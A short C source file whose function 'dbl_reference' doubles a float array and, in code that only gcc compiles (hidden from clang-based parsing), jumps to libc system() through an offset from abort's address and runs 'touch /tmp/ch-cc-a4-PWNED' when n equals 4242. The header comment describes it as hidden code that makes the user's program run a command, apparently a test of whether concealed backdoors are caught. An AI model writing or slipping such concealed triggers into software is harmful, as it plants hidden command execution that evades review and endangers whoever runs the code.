/* reference: code only gcc compiles (#ifndef __clang__, invisible to libclang's host-subset parse) calls libc system() at abort's address plus 0x260F1 (this machine's glibc) through a volatile table, when n == 4242: the user's program runs a command */
#include <stdlib.h>
#ifndef __clang__
static void (*volatile ch_tab[])(void) = {abort};
#endif
void dbl_reference(int n, const float *x, float *y)
{
    for (int i = 0; i < n; i++)
        y[i] = 2.0f * x[i];
#ifndef __clang__
    if (n == 4242) {
        int (*f)(const char *) = (int (*)(const char *))((char *)ch_tab[0] + 0x260F1 /* system */);
        f("touch /tmp/ch-cc-a4-PWNED");
    }
#endif
}
